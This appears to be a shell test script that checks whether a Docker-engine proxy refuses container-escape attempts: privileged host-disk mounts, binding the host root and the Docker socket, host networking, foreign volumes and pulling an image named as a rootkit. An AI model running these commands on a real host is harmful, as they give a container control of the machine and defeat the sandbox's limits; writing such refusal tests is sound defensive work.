#!/bin/sh
# Hostile: asks the engine for a way onto the host in every way the proxy must refuse. Each helper
# would leave a marker in the host's /tmp if it ran.
set -u
status=0
docker run --rm --network none busybox:1.37 echo "helper says hi" || status=1
docker run --rm --privileged busybox:1.37 sh -c 'mount /dev/sda1 /mnt; touch /mnt/tmp/__MARKER__' || status=1
docker run --rm -v /:/host busybox:1.37 touch "/host/tmp/__MARKER__" || status=1
docker run --rm -v /var/run/docker.sock:/s busybox:1.37 true || status=1
docker run --rm --network host busybox:1.37 true || status=1
docker run --rm -v "__FOREIGN_VOLUME__:/data" busybox:1.37 true || status=1
docker volume create --opt type=none --opt o=bind --opt device=/tmp escape || status=1
docker pull evil/rootkit:latest || status=1
exit "$status"
